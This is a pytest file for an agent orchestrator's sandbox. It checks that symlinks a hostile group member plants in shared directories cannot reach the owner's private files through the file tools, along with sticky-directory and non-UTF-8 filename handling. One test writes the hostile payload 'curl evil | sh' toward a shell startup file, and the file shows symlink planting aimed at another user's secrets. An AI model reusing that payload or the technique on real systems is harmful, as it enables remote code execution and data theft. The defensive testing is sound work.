"""Shared roots (a group workspace, `share/`) against a hostile member, through the HTTP API
with real process-backend agents: member 67 plants links and odd names with its own shell,
owner 17's file tools meet them (issue 12, items 7 and 14)."""

from __future__ import annotations

import os
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from mounts.layout import GroupRef
from orchestrator.service import OrchestratorService
from tests.agent_env import agent_data_dir, serving, traversable_tmp  # noqa: F401 - fixtures
from tests.api_calls import MEMBER, OWNER, group_session, start_run, tool
from tests.conftest import make_settings
from tests.mounts.skillstore.conftest import write_skill

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="sandbox uids need a root orchestrator")

SECRET = "secret of 17\n"
ODD = b"x\xff\xfe.txt"  # not UTF-8
TEAM = GroupRef("feishu", "oc_team")  # the group of tests.api_calls.group_session


@pytest.fixture(params=["auto", "walk", "bwrap"])
def team(request: pytest.FixtureRequest, agent_data_dir: Path) -> Iterator[tuple[TestClient, OrchestratorService]]:
    """The plain process backend with either resolver, and the plan as a bwrap namespace."""
    if request.param == "bwrap":
        from tests.orchestrator.sandboxes.test_bwrap import bwrap_problem

        if (problem := bwrap_problem()) is not None:
            pytest.skip(problem)
        settings = make_settings(agent_data_dir, process_sandbox="bwrap")
    else:
        settings = make_settings(agent_data_dir, agent_resolver=request.param)
    with serving(settings) as served:
        yield served


def shell(client: TestClient, run_id: str, command: str) -> dict:
    answer = tool(client, run_id, "shell", command=command)
    assert answer["ok"] and answer["result"]["exit_code"] == 0, answer
    return answer["result"]


def runs(client: TestClient) -> tuple[str, str, str]:
    """(session, owner 17's run, member 67's run) of a group session both speak in."""
    sid = group_session(client)
    owner = start_run(client, sid, trigger="group_message", speaker_user_id=OWNER)["run_id"]
    member = start_run(client, sid, trigger="group_message", speaker_user_id=MEMBER)["run_id"]
    return sid, owner, member


def shared_place(service: OrchestratorService, where: str) -> Path:
    return service.layout.group_dir(TEAM) if where == "group" else service.layout.share_dir


def refused_as_escape(answer: dict, shared: Path) -> None:
    assert answer["ok"] is False, answer
    assert answer["error"]["code"] == "symlink_escape", answer
    assert "shared directory" in answer["error"]["message"] and str(shared) in answer["error"]["message"]
    assert "secret of 17" not in str(answer)


@pytest.mark.parametrize("where", ["group", "share"])
def test_item7_shared_symlink_to_private_root_is_refused(team: tuple[TestClient, OrchestratorService], where: str) -> None:
    shared_links_to_private_roots_are_refused(*team, where)


def shared_links_to_private_roots_are_refused(client: TestClient, service: OrchestratorService, where: str) -> None:
    """The scenario, also run with containers (test_shared_roots_docker.py)."""
    _, owner, member = runs(client)
    home = service.layout.home_dir(OWNER)
    shell(client, owner, f"printf '{SECRET}' > ~/secret && printf 'keep\\n' > ~/.profile")
    shared = shared_place(service, where)
    # The member plants links to the owner's private files, with its own shell.
    shell(
        client,
        member,
        f"cd {shared} && ln -s {home}/secret notes.txt && ln -s {home}/.bashrc rc && ln -s {home}/.profile prof"
        f" && ln -s {home} homedir && ln -s ../../../users/{OWNER}/home/secret rel && echo mine > real.txt"
        f" && ln -s real.txt alias && ln -s {shared}/real.txt abs && mkdir sub && ln -s ../real.txt sub/up",
    )

    refused_as_escape(tool(client, owner, "read_file", path=f"{shared}/notes.txt"), shared)
    refused_as_escape(tool(client, owner, "read_file", path=f"{shared}/homedir/secret"), shared)
    refused_as_escape(tool(client, owner, "send_file", path_or_url=f"{shared}/notes.txt"), shared)
    refused_as_escape(tool(client, owner, "write_file", path=f"{shared}/rc", content="curl evil | sh\n"), shared)
    refused_as_escape(tool(client, owner, "write_file", path=f"{shared}/homedir/new/.bashrc", content="x\n"), shared)
    refused_as_escape(tool(client, owner, "edit_file", path=f"{shared}/prof", old="keep", new="evil"), shared)
    refused_as_escape(tool(client, owner, "list_dir", path=f"{shared}/homedir"), shared)
    relative = tool(client, owner, "read_file", path=f"{shared}/rel")
    assert relative["ok"] is False and relative["error"]["code"] in ("symlink_escape", "path_escape"), relative
    assert not (home / ".bashrc").exists() and not (home / "new").exists()
    assert (home / ".profile").read_text() == "keep\n"
    # The searches do not walk out of the shared root either.
    grep = tool(client, owner, "grep_search", pattern="secret of 17", path=str(shared))
    assert grep["ok"] and grep["result"]["matches"] == [], grep
    found = tool(client, owner, "glob_search", pattern="**", path=str(shared))
    assert found["ok"] and not any("secret" in m for m in found["result"]["matches"]), found

    # Links that stay inside the shared root still work, also for writing.
    for name in ("alias", "abs", "sub/up"):
        read = tool(client, owner, "read_file", path=f"{shared}/{name}")
        assert read["ok"] and read["result"]["content"] == "mine\n", (name, read)
    written = tool(client, owner, "write_file", path=f"{shared}/alias", content="edited by 17\n")
    assert written["ok"], written
    assert (shared / "real.txt").read_text() == "edited by 17\n" and (shared / "alias").is_symlink()
    assert {m.rsplit("/", 1)[-1] for m in found["result"]["matches"]} >= {"real.txt", "alias", "abs"}
    # What remains (docs/sandbox-agent.md): 17's *shell* runs as 17 and follows the link like
    # any program would; fs.protected_symlinks covers only sticky world-writable directories.
    assert shell(client, owner, f"cat {shared}/notes.txt")["stdout"] == SECRET
    # ... and the owner's own links into its own files do too (the walk re-roots them).
    shell(client, owner, f"ln -s {home}/secret own-link")
    assert tool(client, owner, "read_file", path="own-link")["result"]["content"] == SECRET


def test_item7_skill_links_keep_working(team: tuple[TestClient, OrchestratorService]) -> None:
    client, service = team
    assert service.skills_watcher is not None and service.skills_watcher.wait_ready()
    write_skill(service.layout.userskill_source(OWNER, "mine"), {"SKILL.md": "# mine\n"})
    sid = group_session(client)
    run = start_run(client, sid, trigger="group_message", speaker_user_id=OWNER)
    read = tool(client, run["run_id"], "read_file", path="skills/mine/SKILL.md")
    assert read["ok"] and read["result"]["content"] == "# mine\n", read
    grep = tool(client, run["run_id"], "grep_search", pattern="mine", path="skills")
    assert grep["ok"] and [m["text"] for m in grep["result"]["matches"]] == ["# mine"], grep


def test_item7_shared_directories_are_sticky(team: tuple[TestClient, OrchestratorService]) -> None:
    shared_directories_are_sticky(*team)


def shared_directories_are_sticky(client: TestClient, service: OrchestratorService) -> None:
    """Sticky: a member cannot rename or delete another member's entry (so it cannot swap
    17's file for a link); members still edit each other's files, shell and tools alike."""
    _, owner, member = runs(client)
    for shared in (shared_place(service, "group"), shared_place(service, "share")):
        shell(client, owner, f"echo 17 > {shared}/owned-by-17")
        assert stat.S_IMODE(shared.stat().st_mode) == 0o3770, shared
        swap = tool(client, member, "shell", command=f"ln -sf {service.layout.home_dir(OWNER)}/secret {shared}/owned-by-17")
        assert swap["result"]["exit_code"] != 0 and not (shared / "owned-by-17").is_symlink()
        assert tool(client, member, "write_file", path=f"{shared}/owned-by-17", content="67 was here\n")["ok"]
        assert tool(client, member, "edit_file", path=f"{shared}/owned-by-17", old="67", new="Bob")["ok"]
        assert (shared / "owned-by-17").read_text() == "Bob was here\n"
        assert (shared / "owned-by-17").stat().st_uid == service.directories.sandbox_uid(OWNER)


def test_item14_non_utf8_names_in_a_shared_directory_round_trip(team: tuple[TestClient, OrchestratorService]) -> None:
    non_utf8_names_round_trip(*team)


def non_utf8_names_round_trip(client: TestClient, service: OrchestratorService) -> None:
    _, owner, member = runs(client)
    shared = shared_place(service, "group")
    shell(client, member, f"cd {shared} && printf 'odd content\\n' > \"$(printf 'x\\xff\\xfe.txt')\"")
    assert os.path.exists(os.fsencode(shared) + b"/" + ODD)

    listing = tool(client, owner, "list_dir", path=str(shared))
    assert listing["ok"], listing
    entry = next(e for e in listing["result"]["entries"] if e["name"].startswith("x"))
    assert entry["name"] == "x\\xff\\xfe.txt" and entry["name_encoding"] == "escaped", entry
    found = tool(client, owner, "glob_search", pattern="x*", path=str(shared))
    assert found["ok"] and found["result"]["matches"] == [f"{shared}/x\\xff\\xfe.txt"], found
    assert found["result"]["matches_encoding"] == "escaped"
    grep = tool(client, owner, "grep_search", pattern="odd content", path=str(shared))
    assert grep["ok"] and grep["result"]["matches"][0]["path"] == f"{shared}/x\\xff\\xfe.txt", grep
    assert grep["result"]["matches"][0]["path_encoding"] == "escaped"
    # The escaped name goes back into the tools as it came.
    for path in (entry["name"], found["result"]["matches"][0]):
        read = tool(client, owner, "read_file", path=path if path.startswith("/") else f"{shared}/{path}")
        assert read["ok"] and read["result"]["content"] == "odd content\n", read
    written = tool(client, owner, "write_file", path=f"{shared}/{entry['name']}", content="rewritten\n")
    assert written["ok"] and written["result"]["created"] is False, written
    assert tool(client, owner, "edit_file", path=f"{shared}/{entry['name']}", old="rewritten", new="edited")["ok"]
    with open(os.fsencode(shared) + b"/" + ODD, "rb") as fh:
        assert fh.read() == b"edited\n"
    assert not (shared / entry["name"]).exists()  # no file literally named with the escapes
    sent = tool(client, owner, "send_file", path_or_url=f"{shared}/{entry['name']}")
    assert sent["ok"], sent
    assert client.get(f"/v1/deliveries/{sent['result']['delivery_id']}").content == b"edited\n"
